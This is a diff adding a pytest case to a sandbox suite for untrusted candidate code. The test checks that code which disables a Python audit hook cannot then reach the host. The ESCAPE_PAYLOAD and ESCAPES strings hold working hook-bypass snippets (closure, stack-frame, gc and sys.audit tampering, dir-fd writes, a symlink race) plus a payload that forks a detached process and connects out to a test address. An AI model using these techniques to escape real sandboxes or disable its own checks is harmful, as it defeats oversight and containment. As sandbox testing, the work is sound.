@@ -13,6 +13,7 @@ bwrap, unshare or rlimits to run the same cases against one mode.
 from __future__ import annotations
 
 import os
+import secrets
 import socket
 from pathlib import Path
 
@@ -289,6 +290,115 @@ def test_hostile_candidates_sharing_a_test_runner_leave_their_neighbours_verdict
     with pytest.raises(socket.timeout):
         listener.accept()
     assert os.environ[SECRET_NAME] == secret
+
+
+# --- escapes: defeat the audit hook, then go for the host ------------------------------------------
+#
+# An audit hook is not a security boundary: code in the same process can switch it off. Each
+# candidate below gets past it (or tries to) one way, then tries to write to the host's
+# world-writable directories, to leave a process running and to connect to the host's loopback
+# listener and to an outside address. In bwrap and unshare modes the kernel's namespaces stop all of
+# it; in rlimits mode (opt-in only) they succeed, as docs/sandbox.md says, and this test checks only
+# what that mode does contain (no pass, no process left, the verifier unharmed).
+
+ESCAPE_PAYLOAD = """
+import os, socket
+def _go_for_the_host():
+    for d in ('/tmp', '/var/tmp', '/dev/shm'):
+        try:
+            with open(d + '/{marker}', 'w') as fh:
+                fh.write('escaped')
+        except OSError:
+            pass
+    try:
+        pid = os.fork()
+        if pid == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    os.execv('/bin/sleep', ['sleep', '{linger}'])
+            finally:
+                os._exit(0)
+        os.waitpid(pid, 0)
+    except OSError:
+        pass
+    for address in (('127.0.0.1', {port}), ('192.0.2.1', 80)):
+        try:
+            socket.create_connection(address, timeout=0.3).sendall(b'escaped')
+        except OSError:
+            pass
+_go_for_the_host()
+def add(a, b):
+    return a + b
+"""
+
+ESCAPES = [
+    ("clear_the_hook_through_a_closure",  # the thread wrapper's closure holds the policy
+     "import _thread\nfor cell in _thread.start_new_thread.__closure__:\n"
+     "    if hasattr(cell.cell_contents, 'handlers'):\n        cell.cell_contents.handlers.clear()\n"),
+    ("clear_the_hook_through_the_stack",  # the fork server's frames are the candidate's callers
+     "import sys\nframe = sys._getframe()\nwhile frame is not None:\n"
+     "    owner = frame.f_locals.get('self')\n    if hasattr(owner, 'policy'):\n        owner.policy.handlers.clear()\n"
+     "    frame = frame.f_back\n"),
+    ("patch_the_policy_class_in_sys_modules",
+     "import sys\nfor name, module in list(sys.modules.items()):\n"
+     "    if hasattr(module, 'Policy'):\n        module.Policy.refuse = lambda *a, **k: None\n"),
+    ("find_the_hook_with_gc_get_objects",
+     "import gc\ntry:\n    for obj in gc.get_objects():\n"
+     "        if isinstance(getattr(obj, 'handlers', None), dict):\n            obj.handlers.clear()\n"
+     "except Exception:\n    pass\n"),
+    ("replace_sys_audit_then_start_a_program",
+     "import sys\nsys.audit = lambda *a: None\nimport subprocess\ntry:\n"
+     "    subprocess.Popen(['/bin/sleep', '{linger}'], start_new_session=True)\nexcept Exception:\n    pass\n"),
+    ("write_through_inherited_directory_fds",  # the hook checks a relative path against the cwd
+     "import os\nfor fd in range(3, 256):\n    for name in ('{marker}', '../{marker}', '../../../../../../tmp/{marker}'):\n"
+     "        try:\n            os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o666, dir_fd=fd))\n"
+     "        except OSError:\n            pass\n"),
+    ("race_the_path_check_with_a_symlink",  # checked path and opened path differ by a thread's swap
+     "import os, threading\ndef swap(n):\n    os.rename(f'd{{n}}', f'gone{{n}}')\n    os.symlink('/tmp', f'd{{n}}')\n"
+     "for n in range(20):\n    os.mkdir(f'd{{n}}')\n    t = threading.Thread(target=swap, args=(n,))\n    t.start()\n"
+     "    for _ in range(200):\n        try:\n            with open(f'd{{n}}/{marker}', 'w') as fh:\n"
+     "                fh.write('raced')\n        except OSError:\n            pass\n    t.join()\n"),
+]
+
+
+def _processes_with(text: str) -> list[str]:
+    found = []
+    for entry in os.listdir("/proc"):
+        try:
+            if entry.isdigit() and text.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
+                found.append(entry)
+        except OSError:
+            continue
+    return found
+
+
+@pytest.mark.parametrize("disable", [e[1] for e in ESCAPES], ids=[e[0] for e in ESCAPES])
+def test_getting_past_the_audit_hook_does_not_reach_the_host(
+    sandbox: Sandbox, listener: socket.socket, secret: str, disable: str
+) -> None:
+    marker = f"synth-escape-{secrets.token_hex(6)}"
+    linger = f"{secrets.randbelow(10 ** 6)}.{secrets.randbelow(10 ** 6)}"  # sleep's argument: findable
+    code = (disable + ESCAPE_PAYLOAD).format(marker=marker, linger=linger, port=listener.getsockname()[1])
+    servers_before = _server_pids(sandbox)
+
+    result = sandbox.run_tests(code, "assert add(1, 2) == 4\n")
+
+    written = [f"{d}/{marker}" for d in ("/tmp", "/var/tmp", "/dev/shm") if os.path.exists(f"{d}/{marker}")]
+    try:
+        listener.accept()[0].close()
+        connected = True
+    except socket.timeout:
+        connected = False
+    for path in written:
+        os.remove(path)
+    assert not result.passed
+    assert _processes_with(linger) == []
+    assert _candidate_processes(set(sandbox.describe()["candidate_uids"])) == []
+    assert _server_pids(sandbox) == servers_before and sandbox.run_tests(*GOOD).passed
+    assert os.environ[SECRET_NAME] == secret
+    if sandbox.isolation in ("bwrap", "unshare"):
+        assert written == [] and not connected, "a candidate reached the host"
 
 
 def test_secret_is_invisible_to_an_honest_reader(sandbox: Sandbox, secret: str) -> None:
